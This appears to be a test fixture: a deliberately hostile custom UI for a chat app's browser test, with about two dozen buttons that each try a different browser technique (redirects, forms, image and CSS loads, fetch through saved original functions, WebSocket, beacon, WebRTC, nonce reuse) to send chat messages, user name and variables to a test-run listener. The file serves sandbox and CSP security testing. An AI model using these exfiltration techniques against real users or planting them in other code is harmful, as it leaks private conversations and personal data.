// A hostile world's custom UI for tests/browser/test_sandbox_exfil.py: each button tries one
// way to carry the chat, the persona and the variables to TARGET (a listener the test runs).
// The runtime's shims (fetch & co. replaced, location/top shadowed in modules) are conveniences,
// not the boundary: the tricks use `window` and the originals the test's init script keeps
// (window.__real), so what is tested is the CSPs and the iframe sandbox.
var TARGET = __TARGET__;

function loot(api) {
  var data = JSON.stringify({
    chat: api.messages.map(function (m) { return m.content; }),
    user: api.user.name,
    variables: api.variables,
  });
  return encodeURIComponent(data.slice(0, 1500)).replace(/'/g, "%27");
}

var real = window.__real || window;
var ignore = function () {};

function add(tag, attrs, parent) {
  var el = document.createElement(tag);
  Object.keys(attrs).forEach(function (k) { el.setAttribute(k, attrs[k]); });
  (parent || document.body).appendChild(el);
  return el;
}

function submit(method, url) {
  var form = add("form", { method: method, action: url });
  add("input", { name: "loot", value: url }, form);
  form.submit();
}

var TRICKS = {
  "meta-refresh": function (u) {
    add("meta", { "http-equiv": "refresh", content: "0;url=" + u }, document.head);
  },
  "location-href": function (u) { window.location.href = u; },
  "location-replace": function (u) { window.location.replace(u); },
  "link-click": function (u) { add("a", { href: u }).click(); },
  "top-location": function (u) { window.top.location.href = u; },
  "form-get": function (u) { submit("get", u); },
  "form-post": function (u) { submit("post", u); },
  "window-open": function (u) { return String(window.open(u)); },
  "link-target-blank": function (u) { add("a", { href: u, target: "_blank" }).click(); },
  "img": function (u) { new Image().src = u; },
  "css-background": function (u) {
    add("div", { style: "width:9px;height:9px;background:url('" + u + "')" });
  },
  "css-import": function (u) {
    add("style", {}, document.head).textContent = "@import url('" + u + "');";
  },
  "audio": function (u) { new Audio(u).play().catch(function () {}); },
  "font-face": function (u) { new FontFace("Loot", "url('" + u + "')").load().catch(ignore); },
  "fetch": function (u) {
    real.fetch.call(window, u, { method: "POST", mode: "no-cors", body: "x" }).catch(ignore);
  },
  "xhr": function (u) { var x = new real.XMLHttpRequest(); x.open("GET", u); x.send(); },
  "websocket": function (u) { new real.WebSocket(u.replace(/^http/, "ws")); },
  "beacon": function (u) { return String(navigator.sendBeacon(u, "x")); },
  "eventsource": function (u) { new real.EventSource(u); },
  "dynamic-import": function (u) { import(u).catch(ignore); },
  "webrtc": function (u) {
    var host = TARGET.replace("http://", "");
    var turn = { urls: "turn:" + host, username: u.slice(-200), credential: "x" };
    var pc = new (window.RTCPeerConnection || window.webkitRTCPeerConnection)({
      iceServers: [{ urls: "stun:" + host }, turn],
    });
    pc.createDataChannel("loot");
    pc.createOffer().then(function (offer) { return pc.setLocalDescription(offer); });
  },
  "nested-iframe": function (u) { add("iframe", { src: u }); },
  "prefetch": function (u) { add("link", { rel: "prefetch", href: u }, document.head); },
  "nonce-script": function (u) {
    var script = document.createElement("script");
    script.nonce = (document.querySelector("script") || {}).nonce || "";
    script.src = u;
    document.head.appendChild(script);
  },
};

window.__snapshots = [];
window.__received = [];
window.addEventListener("message", function (e) {
  if (!e.data || e.data.fabula !== "host") return;
  window.__received.push(e.data.type);
  if (e.data.type === "snapshot") window.__snapshots.push(e.data.state);
});

export default function App() {
  var api = useYumina();
  var [log, setLog] = React.useState([]);
  function run(name) {
    var result;
    try { result = TRICKS[name](TARGET + "/" + name + "?loot=" + loot(api)) || "ran"; }
    catch (e) { result = e.name; }
    console.log(name + ": " + result);
    setLog(function (l) { return l.concat([name + ": " + result]); });
  }
  return (
    <div>
      <header id="hp">Health: {String(api.variables.health)}</header>
      <output id="log">{log.join("; ")}</output>
      {Object.keys(TRICKS).map(function (name) {
        var click = function () { run(name); };
        return <button key={name} id={"t-" + name} onClick={click}>{name}</button>;
      })}
      <button id="toast" onClick={function () { api.showToast("Still here", "success"); }}>
        Toast
      </button>
      <button id="go" onClick={function () { api.sendMessage("I walk on"); }}>Go</button>
      <MessageList />
    </div>
  );
}
